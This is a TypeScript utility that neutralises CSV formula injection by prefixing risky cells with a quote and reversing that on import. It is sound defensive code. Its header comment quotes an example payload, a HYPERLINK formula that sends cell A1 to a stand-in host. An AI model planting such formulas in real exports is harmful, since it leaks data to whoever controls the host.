// CSV cells a spreadsheet would run as a formula. Excel, LibreOffice and Google Sheets
// treat a cell that begins with `=`, `+`, `-` or `@` (or a tab or carriage return) as a
// formula, so a victim named `=HYPERLINK("http://x.example/?leak="&A1,"Click me")` would
// run when an analyst opens the export. OWASP's advice is to begin such a cell with a
// single quote, which spreadsheets read as "this is text"; the full-width forms of the
// four (U+FF1D, U+FF0B, U+FF0D, U+FF20) count too, as in csv-stringify's `escape_formulas`.
// A value that already begins with quotes before such a character gets one more quote as
// well, so restoring is exact: export → import → export gives the same bytes.
const FORMULA_START = '[=+\\-@\\t\\r\\uFF1D\\uFF0B\\uFF0D\\uFF20]';
const WOULD_RUN = new RegExp(`^'*${FORMULA_START}`);
const NEUTRALISED = new RegExp(`^'+${FORMULA_START}`);

/**
 * The cell as written to a CSV export: one that a spreadsheet would run gets a leading `'`.
 *
 * @example spreadsheetSafe('=1+1') // "'=1+1"
 * @example spreadsheetSafe("'=1+1") // "''=1+1" (so that import gives back "'=1+1")
 * @example spreadsheetSafe('Acme') // 'Acme'
 */
export function spreadsheetSafe(cell: string): string {
  return WOULD_RUN.test(cell) ? `'${cell}` : cell;
}

/**
 * The cell as read from a CSV import: undoes {@link spreadsheetSafe}, so that
 * `fromSpreadsheetSafe(spreadsheetSafe(v)) === v` for every `v`.
 *
 * @example fromSpreadsheetSafe("'=1+1") // '=1+1'
 * @example fromSpreadsheetSafe("'Tis the season") // "'Tis the season"
 */
export function fromSpreadsheetSafe(cell: string): string {
  return NEUTRALISED.test(cell) ? cell.slice(1) : cell;
}
